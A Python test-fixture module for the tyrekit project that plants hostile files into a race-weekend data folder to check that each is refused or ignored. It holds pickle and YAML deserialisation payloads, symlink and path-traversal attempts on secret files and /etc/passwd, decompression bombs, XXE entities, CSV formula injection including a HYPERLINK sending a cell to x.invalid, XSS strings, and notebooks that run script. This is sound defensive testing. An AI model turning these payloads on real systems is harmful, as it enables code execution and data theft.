"""What a stranger's weekend folder may bring: attacks and faults to plant into a copy of one.

Each takes the weekend's folder and a folder outside it, which nobody may touch: `outside` holds
`secret.csv`, and code that gets run leaves `ran` there. `REFUSED` says what the message holds;
`HARMLESS` are opened as if they were not there, or read as plain text.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.ipc as ipc
import pyarrow.parquet as parquet
from openpyxl import Workbook
from written_mdf import Writer, mdf_bytes

from tyrekit.record.weekend import Weekend

Plant = Callable[[Path, Path], None]
RUN = "P3-2.csv.gz"  # the log that an attack stands in for


class Touches:
    """Unpickled, it leaves a file: what every pickle may do."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return (os.mkdir, (str(self.path),))


def event(change: Callable[[str], str]) -> Plant:
    """Change event.toml's text."""

    def plant(folder: Path, outside: Path) -> None:
        path = folder / "event.toml"
        path.write_text(change(path.read_text("utf-8")), "utf-8")

    return plant


def swapped(old: str, new: str) -> Plant:
    def change(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return event(change)


def added(text: str) -> Plant:
    return event(lambda before: before + text)


def cell(table: str, column: str, value: str, row: int = 0) -> Plant:
    """Put a text into a cell of book/*.csv."""

    def plant(folder: Path, outside: Path) -> None:
        path = folder / "book" / f"{table}.csv"
        data = pd.read_csv(path, dtype=str, keep_default_na=False)
        data[column] = data[column].astype(object) if column in data else ""
        data.loc[row, column] = value
        data.to_csv(path, index=False, quoting=csv.QUOTE_ALL)

    return plant


def log(make: Callable[[Path], bytes]) -> Plant:
    """Put other bytes in place of a run's log."""

    def plant(folder: Path, outside: Path) -> None:
        (folder / "logs" / RUN).write_bytes(make(outside))

    return plant


def plain_log(make: Callable[[Path], bytes]) -> Plant:
    """The same, [log] asking for nothing but the kit's own names."""
    return both(event(lambda text: text[: text.index("[log]")]), log(make))


def secret(outside: Path) -> Path:
    return outside / "secret.csv"


def link(name: str, target: Callable[[Path], str | Path] = secret) -> Plant:
    """Put a link in place of a file or a folder."""

    def plant(folder: Path, outside: Path) -> None:
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        if path.is_dir():
            path.rename(outside.parent / f"{path.name}-moved")
        path.unlink(missing_ok=True)
        path.symlink_to(target(outside))

    return plant


def fifo(name: str) -> Plant:
    def plant(folder: Path, outside: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)

    return plant


def file(name: str, data: bytes | str | Callable[[Path], bytes | str]) -> Plant:
    """Write a file of the stranger's own."""

    def plant(folder: Path, outside: Path) -> None:
        content = data(outside) if callable(data) else data
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    return plant


def both(*plants: Plant) -> Plant:
    def plant(folder: Path, outside: Path) -> None:
        for one in plants:
            one(folder, outside)

    return plant


def book(sql: str) -> Plant:
    """Make book.sqlite as the kit does, then run a stranger's SQL on it."""

    def plant(folder: Path, outside: Path) -> None:
        Weekend.open(folder)
        with closing(sqlite3.connect(folder / "book.sqlite", isolation_level=None)) as connection:
            connection.executescript(sql)

    return plant


def entry(cells: str) -> str:
    """SQL that adds an entry past the kit's own code, and takes the seals away."""
    return (
        "DROP TRIGGER seals_DELETE; DELETE FROM seals;"
        "INSERT INTO entries (save_id, sheet, removed, cells) VALUES (1, 'weather', 0, "
        + cells
        + ")"
    )


def journal(folder: Path, outside: Path) -> None:
    """A journal to be played back that names a file: SQLite takes that away afterwards."""
    Weekend.open(folder)
    path = folder / "book.sqlite"
    size = path.stat().st_size
    name = str(outside / "secret.csv").encode()
    magic = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    head = magic + struct.pack(">IIIII", 0, 7, size // 4096, 512, 4096)
    tail = struct.pack(">I", size // 4096 + 1) + name
    tail += struct.pack(">II", len(name), sum(name)) + magic
    (folder / "book.sqlite-journal").write_bytes(head.ljust(512, b"\0") + tail)


def packed(piece: bytes, times: int, first: bytes = b"") -> bytes:
    """A gzip member (RFC1952) of one piece again and again, packed once."""
    packer = zlib.compressobj(9, wbits=-15)
    begun = packer.compress(first) + packer.flush(zlib.Z_FULL_FLUSH) if first else b""
    again = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08" + bytes(7) + begun + again * times


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def unpickling_arrow(outside: Path) -> bytes:
    """An Arrow file whose column's type is to be unpickled, as pyarrow once did by itself."""
    kind = {"ARROW:extension:name": "arrow.py_extension_type",
            "ARROW:extension:metadata": pickle.dumps(Touches(outside / "ran"))}  # fmt: skip
    fields = [pa.field("Time", pa.float64(), metadata=kind), pa.field("Lap", pa.float64())]
    sink = pa.BufferOutputStream()
    schema = pa.schema(fields)
    with ipc.new_file(sink, schema) as writer:
        writer.write_batch(pa.record_batch([np.arange(9.0), np.ones(9)], schema=schema))
    return bytes(sink.getvalue().to_pybytes())


def npy(outside: Path) -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([Touches(outside / "ran")], dtype=object), allow_pickle=True)
    return out.getvalue()


def formula_mdf(formula: str) -> bytes:
    """An MDF file whose channel v is worked out by a formula in it."""
    data = bytearray(mdf_bytes([(np.arange(40.0), {"v": (np.arange(40.0), "m/s")})]))
    out = Writer()
    out.data = data
    words = out.text(formula)
    fields = struct.pack("<BBHHHdd", 3, 0, 0, 1, 0, 0.0, 0.0)
    conversion = out.add(b"##CC", (0, 0, 0, 0, words), fields)
    channels = [i for i in range(0, len(data), 8) if data[i : i + 4] == b"##CN"]
    out.link(channels[-1], 4, conversion)
    return bytes(out.data)


def circular_mdf() -> bytes:
    data = bytearray(mdf_bytes([(np.arange(9.0), {"v": (np.arange(9.0), "m/s")})]))
    at = data.index(b"##CN")
    data[at + 24 : at + 32] = at.to_bytes(8, "little")
    return bytes(data)


def beyond_mdf() -> bytes:
    """A channel that lies far behind its record: reading it would read other memory."""
    data = bytearray(mdf_bytes([(np.arange(9.0), {"v": (np.arange(9.0), "m/s")})]))
    at = data.rindex(b"##CN")
    struct.pack_into("<I", data, at + 24 + 64 + 4, 1 << 30)
    return bytes(data)


def counting_parquet() -> bytes:
    """Few bytes, 69 million rows: every page says the same again."""
    sink = pa.BufferOutputStream()
    table = pa.table({"Time": np.zeros(1 << 21), "Lap": np.zeros(1 << 21)})
    with parquet.ParquetWriter(sink, table.schema, compression="zstd") as writer:
        for _ in range(33):
            writer.write_table(table)
    return bytes(sink.getvalue().to_pybytes())


def workbook(sheet: bytes = b"") -> bytes:
    """A spreadsheet of the weather; `sheet` takes the place of the XML of its first sheet."""
    made = Workbook()
    made.active.title = "weather"
    made.active.append(["taken_at", "air_c", "track_c"])
    made.active.append(["2026-05-16T15:00:00", 15, 20])
    out = io.BytesIO()
    made.save(out)
    if not sheet:
        return out.getvalue()
    again = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(again, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            own = name == "xl/worksheets/sheet1.xml"
            new.writestr(name, sheet if own else old.read(name))
    return again.getvalue()


def deadly(folder: Path, outside: Path) -> None:
    """Programs under the names that Python, pytest, Jupyter and IPython look for."""
    text = f"import os\nos.makedirs({str(outside / 'ran')!r}, exist_ok=True)\n"
    names = ("sitecustomize", "usercustomize", "conftest", "pandas", "numpy", "tyrekit", "json",
             "ipykernel_launcher", "jupyter_server_config", "jupyter_lab_config",
             "ipython_config", "ipython_kernel_config", "ipywidgets", "anywidget")  # fmt: skip
    inner = ("", ".jupyter", "profile_default/startup")
    for place in (base / name for base in (folder, folder / "notebooks") for name in inner):
        place.mkdir(parents=True, exist_ok=True)
        for name in names:
            (place / f"{name}.py").write_text(text)
    for name in ("chromium", "chromium-browser", "node", "git"):
        (folder / name).write_text(f"#!/bin/sh\nmkdir {outside / 'ran'}\n")
        (folder / name).chmod(0o755)


def strange_notebook(
    outside: Path, cells: list[dict[str, object]] | None = None
) -> dict[str, object]:
    """A notebook that says it is the kit's, is trusted, and brings outputs and widgets that run."""
    code = f"import os; os.makedirs({str(outside / 'ran')!r}, exist_ok=True)"
    output = {"output_type": "display_data", "metadata": {}, "data": {
        "text/html": "<img src=x onerror='globalThis.pwned=1'><script>globalThis.pwned=1</script>",
        "application/javascript": "globalThis.pwned=1"}}  # fmt: skip
    own = [{"cell_type": "code", "id": "a", "source": code, "metadata": {"trusted": True},
            "execution_count": 1, "outputs": [output]}]  # fmt: skip
    module = "globalThis.pwned = 1; export default { initialize() { globalThis.pwned = 2 } }"
    names = {"_model_name": "AnyModel", "_model_module": "anywidget", "_view_name": "AnyView",
             "_model_module_version": "~0.11.*", "_view_module_version": "~0.11.*",
             "_view_module": "anywidget"}  # fmt: skip
    widget = {"model_name": "AnyModel", "model_module": "anywidget",
              "model_module_version": "~0.11.*",
              "state": {**names, "_esm": module, "_anywidget_id": "x.Y"}}  # fmt: skip
    widgets = {"version_major": 2, "version_minor": 0, "state": {"f00d": widget}}
    return {
        "cells": cells or own, "nbformat": 4, "nbformat_minor": 5,
        "metadata": {
            "tyrekit": {"autorun": True}, "trusted": True, "signature": "sha256:0",
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "widgets": {"application/vnd.jupyter.widget-state+json": widgets},
        },
    }  # fmt: skip


def prying_notebook(address: str) -> dict[str, object]:
    """A notebook that would have the reader's machine ask an address when it is only looked at."""
    asks = {
        "text/html": f"<img src='{address}/html-image'><iframe src='{address}/frame'></iframe>"
        f"<link rel=stylesheet href='{address}/sheet'><style>@import '{address}/import';"
        f"body {{background: url({address}/style)}}</style><video src='{address}/video'></video>"
        f"<p style='background: url({address}/inline)'>read</p>",
        "text/plain": "read",
    }
    vector = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{address}/svg-image'/></svg>"
    seen = (asks, {"image/svg+xml": vector}, {"text/markdown": f"![m]({address}/markdown-out)"})
    outputs = [{"output_type": "display_data", "metadata": {}, "data": data} for data in seen]
    text = f"![seen]({address}/markdown) <img src='{address}/markdown-html'>"
    return {
        "cells": [
            {"cell_type": "markdown", "id": "m", "source": text, "metadata": {}},
            {"cell_type": "code", "id": "c", "source": "", "metadata": {"trusted": True},
             "execution_count": 1, "outputs": outputs},
        ],
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
    }  # fmt: skip


def notebook(folder: Path, outside: Path) -> None:
    text = json.dumps(strange_notebook(outside))
    for name in ("1_next_session.ipynb", "mine.ipynb"):
        file(f"notebooks/{name}", text)(folder, outside)


def yaml_object(outside: Path) -> str:
    return f"!!python/object/apply:os.mkdir ['{outside / 'ran'}']\n"


PLENTY = "".join(f"k{i} = 1\n" for i in range(30_000))
REFUSED: dict[str, tuple[Plant, str]] = {
    # event.toml
    "toml nested too deeply": (added("\nx = " + "[\n" * 100_000), "nested too deeply"),
    "toml dotted without end": (added("\n" + "a." * 100_000 + "a = 1\n"), "too many parts"),
    "toml integer of 9999 digits": (swapped("cars = 20", "cars = " + "9" * 9999), "not valid TOML"),
    "toml key twice": (swapped("cars = 20", "cars = 20\ncars = 21"), "not valid TOML"),
    "toml with NUL": (swapped("cars = 20", "cars = 20 \0"), "not valid TOML"),
    "toml with a written NUL": (swapped("Driver A", "Driver\\u0000A"), "cannot be seen"),
    "toml that turns the reading round": (swapped("Driver A", "Driver \u202eA"), "cannot be seen"),
    "toml with terminal commands": (swapped("Fenmoor Park", "\\u001b[2JPark"), "cannot be seen"),
    "toml of a million keys": (added("".join(f"k{i} = 1\n" for i in range(10**6))), "too large"),
    "toml of thirty thousand keys": (added(f"\n[more]\n{PLENTY}"), "more than 20000 entries"),
    "toml of a hundred thousand sessions": (
        added("[[session]]\n" * 30_000), "more than 20000 entries"),
    "toml id of 9999 letters": (swapped('"P1"', f'"{"P" * 9999}"'), "at most 200 characters"),
    "yaml object in place of toml": (
        lambda f, o: file("event.toml", yaml_object(o))(f, o), "not valid TOML"),
    "pickle in place of toml": (
        file("event.toml", lambda o: pickle.dumps(Touches(o / "ran"))), "not valid TOML"),
    "race of a billion laps": (
        swapped("minutes = 20", "minutes = 20\nlaps = 1000000000"), "at most 2000"),
    "laps without end in all": (
        event(lambda text: re.sub(r"(?m)^laps = \d+", "laps = 2000", text)), "laps in all"),
    "laps of no time": (swapped("mean = 92.0", "mean = 0.001"), "5 to 3600 s"),
    "session of 1e308 minutes": (swapped("minutes = 20", "minutes = 1e308"), "at most 3000"),
    "start in the year 1": (swapped("2026-05-16T09:10:00", "0001-01-01T00:00:00"), "1970 to 2200"),
    "start in the year 9999": (
        swapped("2026-05-16T09:10:00", "9999-12-31T23:59:00"), "1970 to 2200"),
    "belief of 1e308": (swapped("mean = 92.0", "mean = 1e308"), "at most"),
    "belief that is no number": (swapped("mean = 92.0", "mean = nan"), "lap_time_s"),
    "belief that is certain": (swapped("sd = 3.0", "sd = 1e-300"), "at least 1e-09"),
    "encoding that never ends": (added('\nencoding = "idna"\n'), "a text encoding"),
    "event.toml a link to a secret": (link("event.toml"), "link out of the folder"),
    "event.toml a pipe": (fifo("event.toml"), "no event.toml"),
    "event.toml an endless device": (link("event.toml", lambda o: "/dev/zero"), "no event.toml"),
    # the book's tables
    "id with a NUL": (cell("tyres", "tyre_id", "N\0001"), "cannot be seen|binary|cannot be read"),
    "id of two lines": (cell("tyres", "tyre_id", "N\n1"), "cannot be seen"),
    "id that reads backwards": (cell("tyres", "tyre_id", "N\u202e1"), "cannot be seen"),
    "id of 9999 letters": (cell("tyres", "tyre_id", "N" * 9999), "at most 200 characters"),
    "number of 1e308": (cell("tyres", "distance_km", "1e308"), "at most 1000000"),
    "number that is infinite": (cell("tyres", "distance_km", "inf"), "must be a number"),
    "reading in the year 1": (cell("weather", "taken_at", "0001-01-01T00:00:00"), "1970 to 2200"),
    "table of 30 MB": (
        file("book/weather.csv", b"taken_at\n" + b"x" * 30_000_000), "at most 20 MB"),
    "table of a million rows": (
        file("book/weather.csv", b"taken_at,air_c,track_c\n" + b"1,2,3\n" * 10**6), "50,000 rows"),
    "table of a hundred thousand columns": (
        file("book/weather.csv", b"a," * 100_000 + b"a\n"), "columns"),
    "table that is a pickle": (
        file("book/weather.csv", lambda o: pickle.dumps(Touches(o / "ran"))), "book/weather.csv"),
    "table a link out": (link("book/weather.csv"), "link out of the folder"),
    "table a pipe": (fifo("book/weather.csv"), "not a file"),
    "table an endless device": (link("book/weather.csv", lambda o: "/dev/zero"), "not a file"),
    "book folder a link out": (link("book", lambda o: o), "link out of the folder"),
    # book.sqlite
    "book with a trigger": (book(
        "CREATE TRIGGER t AFTER INSERT ON saves BEGIN SELECT load_extension('x'); END"), "trigger"),
    "book with a view for a table": (book(
        "ALTER TABLE files RENAME TO f; CREATE VIEW files AS SELECT * FROM f"), "not the kit's"),
    "book with another structure": (book("CREATE TABLE notes (a, b AS (abs(a)) STORED)"), "table"),
    "book with an index that computes": (book("CREATE INDEX i ON saves (abs(save_id))"), "index"),
    "book of nested lists": (book(entry("replace(hex(zeroblob(50000)), '00', '[')")), "book"),
    "book whose cells are a list": (book(entry("'[1]'")), "book"),
    "book with a blob of 200 MB": (book(entry("zeroblob(200000000)")), "book"),
    "book that is a link": (
        both(book(""), link("book.sqlite", secret)), "link out of the folder"),
    "journal that names another file": (journal, "names another file"),
    "journal that is a link": (both(book(""), link("book.sqlite-journal")), "link out"),
    # logs
    "log named by its place": (cell("runs", "log", "/etc/passwd"), "not in logs/"),
    "log above the folder": (cell("runs", "log", "../../outside/secret.csv"), "not in logs/"),
    "log with a NUL in its name": (
        cell("runs", "log", "a\0b"), "cannot be seen|binary|cannot be read"),
    "log a link out": (link(f"logs/{RUN}"), "link out of it"),
    "log a pipe": (fifo(f"logs/{RUN}"), "not a file"),
    "log an endless device": (link(f"logs/{RUN}", lambda o: "/dev/zero"), "link out of it"),
    "log a folder": (both(
        lambda f, o: (f / "logs" / RUN).unlink(), lambda f, o: (f / "logs" / RUN).mkdir()),
        "not a file"),
    "logs folder a link out": (link("logs", lambda o: o), "link out of the folder"),
    "log whose name commands the terminal": (
        file("logs/\x1b[2J.csv", "Time,Lap\n"), "cannot be seen"),
    "log that is a pickle": (log(lambda o: pickle.dumps(Touches(o / "ran"))), f"logs/{RUN}"),
    "log that is a packed pickle": (
        log(lambda o: zlib.compress(pickle.dumps(Touches(o / "ran")))), f"logs/{RUN}"),
    "log that is an array of objects": (log(npy), f"logs/{RUN}"),
    "log that is a YAML object": (log(lambda o: yaml_object(o).encode() * 99), f"logs/{RUN}"),
    "log that is a zip": (log(lambda o: zipped(a=bytes(10**7))), "zip archive"),
    "log that unpacks to 5 GB of nothing": (
        log(lambda o: packed(bytes(1 << 24), 320)), "hold nothing"),
    "log that unpacks to 5 GB of numbers": (
        plain_log(lambda o: packed(b"0.5,1\n" * (1 << 21), 400, b"time_s,lap\n")), "too large"),
    "arrow file to be unpickled": (log(unpickling_arrow), f"logs/{RUN}"),
    "arrow file of absurd size": (
        log(lambda o: b"ARROW1\0\0\xff\xff\xff\xff\xff\xff\xff\x7f" + bytes(99)), "Arrow file"),
    "parquet of 69 million rows": (log(lambda o: counting_parquet()), f"logs/{RUN}"),
    "mdf index in a circle": (log(lambda o: circular_mdf()), "runs in a circle"),
    "mdf channel beyond its record": (log(lambda o: beyond_mdf()), "beyond its record"),
    "mdf formula": (
        log(lambda o: formula_mdf("__import__('os').mkdir('ran')")), f"logs/{RUN}"),
    # timing
    "timing of 40 MB": (
        file("timing/R1.csv", b"lap,lap_time_s\n" + b"1,66\n" * 8 * 10**6), "too large"),
    "timing that is no text": (file("timing/R1.csv", bytes(999)), "not text|no line"),
    "timing a link out": (link("timing/R1.csv"), "link out of the folder"),
    "timing folder a link out": (link("timing", lambda o: o), "link out of the folder"),
    "timing in the year 9999": (
        file("timing/P1.csv", "lap,lap_time_s,crossed_at\n1,95,9999-12-31T23:59:59\n"),
        "1970 to 2200"),
    "timing whose name reads backwards": (
        file("timing/P1\u202e.csv", "lap,lap_time_s\n1,95\n"), "cannot be seen"),
}  # fmt: skip
HARMLESS: dict[str, Plant] = {
    "byte-order mark before toml": event(lambda text: "\ufeff" + text),
    "programs under names that are looked for": deadly,
    "notebook that says it is the kit's": notebook,
    "workspace and settings": both(
        file("a.jupyterlab-workspace", '{"data": {"x:data": {}}, "metadata": {"id": "x"}}'),
        file(".jupyter/lab/user-settings/x.jupyterlab-settings", "{}"),
        file("overrides.json", "{}"),
    ),
    "ids that climb": both(
        swapped('number = "27"', 'number = "../../27"'), cell("tyres", "note", "../../../../x")),
    "ids that are devices": cell("tyres", "spec", "CON"),
    "text that names extensions": cell("tyres", "note", "load_extension('x'); ATTACH 'y' AS z"),
    "pickles that nobody asked for": both(
        file("out/answer.pkl", lambda o: pickle.dumps(Touches(o / "ran"))),
        file("book/fits.joblib", lambda o: pickle.dumps(Touches(o / "ran"))),
        file("cache.pickle", lambda o: pickle.dumps(Touches(o / "ran"))),
    ),
}  # fmt: skip
ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">
<c r="A1" t="inlineStr"><is><t>&%s;</t></is></c></row></sheetData></worksheet>"""
LAUGHS = b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
WORKBOOKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "spreadsheet of entities in entities": (
        lambda: workbook(ENTITIES % (LAUGHS, b"j")), "document type"),
    "spreadsheet that reads a file": (
        lambda: workbook(ENTITIES % (b'<!ENTITY f SYSTEM "file:///etc/passwd">', b"f")),
        "document type"),
    "spreadsheet that unpacks to 300 MB": (
        lambda: workbook(b"<worksheet>" + bytes(300_000_000) + b"</worksheet>"), "unpacked"),
    "spreadsheet of ten thousand parts": (
        lambda: zipped(**{f"xl__p{i}.xml": b"<a/>" for i in range(10_000)}), "parts"),
    "spreadsheet that is a pickle": (lambda: pickle.dumps([1, 2]), "cannot be read"),
}  # fmt: skip


def formulas() -> list[str]:
    """What a spreadsheet program would run when an export is opened in it."""
    return [
        '=HYPERLINK("http://x.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "''=1", "=1+1;=2+2", "a;=1+1", "a\n=1+1", "a|=1+1",
        "\uff1d1+1", "plain", "-1,5", "a,=1", 'he said "=1"', "'", "x'=1", "a;'=1", "a;''-1",
    ]  # fmt: skip


NAMES = [
    "<script>globalThis.pwned=1</script>", '"><img src=x onerror="globalThis.pwned=1">',
    "</svg></td></table><script>globalThis.pwned=1</script>", "&lt;b&gt;&amp;&",
    "javascript:alert(1)",
    "${globalThis.pwned=1}", "{{ 7*7 }}{% raw %}", "'];globalThis.pwned=1//", "a.b[0]['c']",
    "[x](javascript:alert(1))", "datum.x || (globalThis.pwned=1)", "__proto__", "constructor",
    "<style>*{display:none}</style>", "[/bold][link=x]", "a:Q", "x\\'y", "--><!--",
]  # fmt: skip


def renamed(folder: Path) -> dict[str, str]:
    """Give tyres, drivers, event, car and a spec names that would run; return new by old."""
    tyres = pd.read_csv(folder / "book/tyres.csv", dtype=str, keep_default_na=False)
    new = dict(zip(tyres["tyre_id"], NAMES, strict=False))
    for path in (folder / "book").glob("*.csv"):
        data = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in ("tyre_id", "fl", "fr", "rl", "rr"):
            if column in data:
                data[column] = data[column].replace(new)
        if "driver" in data:
            data["driver"] = data["driver"].replace({"Driver A": NAMES[1]})
        if "note" in data:
            data["note"] = NAMES[2]
        if path.stem == "tyres":
            data["spec"], data["<img src=x onerror=globalThis.pwned=1>"] = NAMES[0], NAMES[1]
        data.to_csv(path, index=False)
    path = folder / "event.toml"
    text = path.read_text("utf-8").replace('"Driver A"', json.dumps(NAMES[1]))
    text = text.replace('number = "27"', f"number = {json.dumps(NAMES[1])}")
    text = text.replace("Fenmoor Park, round 3 (invented)", "<script>globalThis.pwned=1</script>")
    for old, name in new.items():
        text = text.replace(f'"{old}"', json.dumps(name))
    path.write_text(text, "utf-8")
    return new
